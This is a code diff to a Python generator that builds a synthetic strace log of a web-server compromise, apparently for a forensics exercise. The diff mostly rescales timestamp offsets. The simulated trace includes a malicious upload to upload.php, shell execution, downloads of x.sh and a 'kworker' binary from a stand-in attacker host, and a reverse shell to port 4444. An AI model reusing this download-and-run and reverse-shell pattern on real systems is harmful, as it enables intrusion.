@@ -726,32 +726,32 @@ def build_strace():
 
     lsock = "4<TCP:[0.0.0.0:80]>"
     # health checks and shoppers served by worker 2817 while the trace ran
-    t = STRACE_WINDOW[0] + 12_000
+    t = STRACE_WINDOW[0] + 12_000_000
     reqs = [(ALBS[0], 41822, "GET /healthz"), (ALBS[1], 42016, "GET /healthz"), (ALBS[0], 41840, "GET /products/42")]
     for ip, port, what in reqs:
         conn = f"9<TCP:[{TASK_IP}:80->{ip}:{port}]>"
         line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr(\"{ip}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
         req = f"{what} HTTP/1.1\r\nHost: {TASK_IP}\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\n\r\n"
-        line(t + 61, 2817, f"read({conn}, {c_str(req, 256)}, 8000) = {len(req)}")
+        line(t + 61_000, 2817, f"read({conn}, {c_str(req, 256)}, 8000) = {len(req)}")
         page = "/var/www/html/healthz.php" if "healthz" in what else "/var/www/html/index.php"
-        line(t + 240, 2817, f"openat(AT_FDCWD</var/www/html>, \"{page}\", O_RDONLY|O_CLOEXEC) = 10<{page}>")
-        line(t + 260, 2817, f"read(10<{page}>, \"<?php\\n\", 8192) = 6")
-        line(t + 290, 2817, f"close(10<{page}>) = 0")
+        line(t + 240_000, 2817, f"openat(AT_FDCWD</var/www/html>, \"{page}\", O_RDONLY|O_CLOEXEC) = 10<{page}>")
+        line(t + 260_000, 2817, f"read(10<{page}>, \"<?php\\n\", 8192) = 6")
+        line(t + 290_000, 2817, f"close(10<{page}>) = 0")
         resp = "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Type: text/plain\r\n\r\nok\n"
-        line(t + 1900, 2817, f"writev({conn}, [{{iov_base={c_str(resp, 256)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
-        line(t + 2010, 2817, f"shutdown({conn}, SHUT_WR) = 0")
-        line(t + 2200, 2817, f"close({conn}) = 0")
+        line(t + 1900_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp, 256)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
+        line(t + 2010_000, 2817, f"shutdown({conn}, SHUT_WR) = 0")
+        line(t + 2200_000, 2817, f"close({conn}) = 0")
         t += rng.randrange(7, 9) * 1_000_000_000
     # the exploit request
     t = ts(898, 985102)
     conn = f"9<TCP:[{TASK_IP}:80->{ATTACKER}:51514]>"
     line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons(51514), sin_addr=inet_addr(\"{ATTACKER}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
-    line(t + 210, 2817, f"read({conn}, \"POST /upload.php HTTP/1.1\\r\\nHost: {TASK_IP}\\r\\nUser-Agent: python-requests/2.31.0\\r\\n\"..., 8000) = 498")
+    line(t + 210_000, 2817, f"read({conn}, \"POST /upload.php HTTP/1.1\\r\\nHost: {TASK_IP}\\r\\nUser-Agent: python-requests/2.31.0\\r\\n\"..., 8000) = 498")
     tmp = "/tmp/phpk3Jd9A"
-    line(t + 900, 2817, f"openat(AT_FDCWD</var/www/html>, \"{tmp}\", O_RDWR|O_CREAT|O_EXCL, 0600) = 10<{tmp}>")
-    line(t + 950, 2817, f"write(10<{tmp}>, \"\\377\\330\\377\\340\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\"..., 64) = 64")
-    line(t + 990, 2817, f"close(10<{tmp}>) = 0")
-    line(t + 1400, 2817, f"rename(\"{tmp}\", \"/var/www/html/uploads/a.jpg\") = 0")
+    line(t + 900_000, 2817, f"openat(AT_FDCWD</var/www/html>, \"{tmp}\", O_RDWR|O_CREAT|O_EXCL, 0600) = 10<{tmp}>")
+    line(t + 950_000, 2817, f"write(10<{tmp}>, \"\\377\\330\\377\\340\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\"..., 64) = 64")
+    line(t + 990_000, 2817, f"close(10<{tmp}>) = 0")
+    line(t + 1400_000, 2817, f"rename(\"{tmp}\", \"/var/www/html/uploads/a.jpg\") = 0")
     # mod_php's shell_exec: fork, exec /bin/sh -c
     line(ts(900, 211002), 2817, "pipe2([10<pipe:[4391187]>, 11<pipe:[4391187]>], O_CLOEXEC) = 0")
     line(ts(900, 211590), 2817, "clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f1c9a3bfa10) = 4242")
@@ -766,10 +766,10 @@ def build_strace():
             if pid not in procs_seen:
                 parent = s["ppid"]
                 if parent == 4243 and 4243 not in procs_seen:
-                    line(s["t"] - 2900, 4242, "clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = 4243")
-                    line(s["t"] - 2400, 4243, "pipe([3<pipe:[4391190]>, 4<pipe:[4391190]>]) = 0")
+                    line(s["t"] - 2900_000, 4242, "clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = 4243")
+                    line(s["t"] - 2400_000, 4243, "pipe([3<pipe:[4391190]>, 4<pipe:[4391190]>]) = 0")
                     procs_seen.add(4243)
-                line(s["t"] - 1100, parent, f"clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = {pid}")
+                line(s["t"] - 1100_000, parent, f"clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f3b1f4e9a10) = {pid}")
                 procs_seen.add(pid)
             path = "/bin/sh" if s["exe"] == "/usr/bin/dash" else ("./kworker" if s["argv"][0] == "./kworker" else s["exe"])
             argv = "[" + ", ".join(c_str(x) for x in s["argv"]) + "]"
@@ -777,54 +777,54 @@ def build_strace():
         elif s["kind"] == "connect":
             ino = 4391200 + pid % 100
             (lip, lport), (rip, rport) = s["laddr"], s["raddr"]
-            line(s["t"] - 80, pid, f"socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = {s['fd']}<TCP:[{ino}]>")
+            line(s["t"] - 80_000, pid, f"socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = {s['fd']}<TCP:[{ino}]>")
             line(s["t"], pid, f"connect({s['fd']}<TCP:[{ino}]>, {{sa_family=AF_INET, sin_port=htons({rport}), sin_addr=inet_addr(\"{rip}\")}}, 16) = 0")
             if pid != 4249:
                 req = f"GET /{'x.sh' if pid == 4244 else 'kworker'} HTTP/1.1\r\nHost: {ATTACKER}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n"
                 sock = f"{s['fd']}<TCP:[{lip}:{lport}->{rip}:{rport}]>"
-                line(s["t"] + 150, pid, f"sendto({sock}, {c_str(req)}, {len(req)}, MSG_NOSIGNAL, NULL, 0) = {len(req)}")
+                line(s["t"] + 150_000, pid, f"sendto({sock}, {c_str(req)}, {len(req)}, MSG_NOSIGNAL, NULL, 0) = {len(req)}")
                 body = SCRIPT if pid == 4244 else b"\x7fELF\x02\x01\x01\0"
-                line(s["t"] + 49_000, pid, f"recvfrom({sock}, {c_str(b'HTTP/1.1 200 OK' + chr(13).encode() + chr(10).encode(), 256)}..., 102400, 0, NULL, NULL) = {len(body) + 90}")
+                line(s["t"] + 49_000_000, pid, f"recvfrom({sock}, {c_str(b'HTTP/1.1 200 OK' + chr(13).encode() + chr(10).encode(), 256)}..., 102400, 0, NULL, NULL) = {len(body) + 90}")
                 if pid == 4244:
-                    line(s["t"] + 49_300, pid, f"write(1<pipe:[4391190]>, {c_str(SCRIPT)}, {len(SCRIPT)}) = {len(SCRIPT)}")
-                line(s["t"] + 49_800, pid, f"close({sock}) = 0")
+                    line(s["t"] + 49_300_000, pid, f"write(1<pipe:[4391190]>, {c_str(SCRIPT)}, {len(SCRIPT)}) = {len(SCRIPT)}")
+                line(s["t"] + 49_800_000, pid, f"close({sock}) = 0")
         elif s["kind"] == "open_write":
             line(s["t"], pid, f"openat(AT_FDCWD<{s['cwd']}>, {c_str(s['rel'])}, {s['flags']}, 0666) = {s['fd']}<{s['path']}>")
-            line(s["t"] + 300, pid, f"write({s['fd']}<{s['path']}>, \"\\177ELF\\2\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0>\\0\\1\\0\\0\\0\"..., 14336) = 14336")
-            line(s["t"] + 700, pid, f"close({s['fd']}<{s['path']}>) = 0")
+            line(s["t"] + 300_000, pid, f"write({s['fd']}<{s['path']}>, \"\\177ELF\\2\\1\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\2\\0>\\0\\1\\0\\0\\0\"..., 14336) = 14336")
+            line(s["t"] + 700_000, pid, f"close({s['fd']}<{s['path']}>) = 0")
         elif s["kind"] == "dup2":
             sock = f"3<TCP:[{TASK_IP}:46122->{ATTACKER}:4444]>"
             line(s["t"], pid, f"dup2({sock}, {s['newfd']}) = {s['newfd']}<TCP:[{TASK_IP}:46122->{ATTACKER}:4444]>")
     # the script's `cd /tmp/.x`, once mkdir has returned
     line(ts(900, 405220), 4245, 'chdir("/tmp/.x") = 0')
     # exits of the short-lived children, in order
-    for pid, at in ((4246, ts(900, 404001)), (4244, ts(900, 290002)), (4248, ts(901, 5007)), (4245, ts(901, 20113)),
+    for pid, at in ((4246, ts(900, 404001)), (4244, ts(900, 290002)), (4247, ts(900, 531200)), (4248, ts(901, 5007)), (4245, ts(901, 20113)),
                     (4243, ts(901, 22001)), (4250, ts(901, 290771)), (4242, ts(901, 291604))):
         L.append((at, pid, f"{pid:<5} {hms(at)} exit_group(0) = ?"))
-        L.append((at + 90, pid, f"{pid:<5} {hms(at + 90)} +++ exited with 0 +++"))
-        if pid in (4244, 4245, 4246, 4248):
+        L.append((at + 90_000, pid, f"{pid:<5} {hms(at + 90_000)} +++ exited with 0 +++"))
+        if pid in (4244, 4245, 4246, 4247, 4248):
             parent = 4243 if pid in (4244, 4245) else 4245
-            L.append((at + 150, parent, f"{parent:<5} {hms(at + 150)} --- SIGCHLD {{si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid={pid}, si_uid=33, si_status=0, si_utime=0, si_stime=0}} ---"))
+            L.append((at + 150_000, parent, f"{parent:<5} {hms(at + 150_000)} --- SIGCHLD {{si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid={pid}, si_uid=33, si_status=0, si_utime=0, si_stime=0}} ---"))
     # php reads the (empty) output, answers, and goes back to accept
     t = ts(901, 300010)
     line(t, 2817, "read(10<pipe:[4391187]>, \"\", 8192) = 0")
-    line(t + 80, 2817, "wait4(4242, [{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL) = 4242")
+    line(t + 80_000, 2817, "wait4(4242, [{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL) = 4242")
     resp = "HTTP/1.1 200 OK\r\nContent-Length: 25\r\nContent-Type: text/html\r\n\r\n<p>thumbnail created</p>\n"
-    line(t + 400, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
-    line(t + 700, 2817, f"close({conn}) = 0")
+    line(t + 400_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
+    line(t + 700_000, 2817, f"close({conn}) = 0")
     t = ts(920, 11880)
     for ip, port in ((ALBS[1], 42104), (ALBS[0], 41902)):
         conn = f"9<TCP:[{TASK_IP}:80->{ip}:{port}]>"
         line(t, 2817, f"accept4({lsock}, {{sa_family=AF_INET, sin_port=htons({port}), sin_addr=inet_addr(\"{ip}\")}}, [128 => 16], SOCK_CLOEXEC) = {conn}")
         req = f"GET /healthz HTTP/1.1\r\nHost: {TASK_IP}\r\nConnection: close\r\nUser-Agent: ELB-HealthChecker/2.0\r\n\r\n"
-        line(t + 61, 2817, f"read({conn}, {c_str(req)}, 8000) = {len(req)}")
+        line(t + 61_000, 2817, f"read({conn}, {c_str(req)}, 8000) = {len(req)}")
         resp = "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nContent-Type: text/plain\r\n\r\nok\n"
-        line(t + 1900, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
-        line(t + 2200, 2817, f"close({conn}) = 0")
+        line(t + 1900_000, 2817, f"writev({conn}, [{{iov_base={c_str(resp)}, iov_len={len(resp)}}}], 1) = {len(resp)}")
+        line(t + 2200_000, 2817, f"close({conn}) = 0")
         t += 29_800_000_000
     # the reverse shell waits on its terminal: still blocked when strace detaches
     line(ts(901, 16800), 4249, "read(0<TCP:[10.0.1.87:46122->198.51.100.7:4444]>,  <unfinished ...>")
-    line(STRACE_WINDOW[1] - 100, 2817, f"accept4({lsock},  <unfinished ...>")
+    line(STRACE_WINDOW[1] - 100_000, 2817, f"accept4({lsock},  <unfinished ...>")
     L.sort(key=lambda x: (x[0], x[1]))
     return "".join(text + "\n" for _, _, text in L)
 
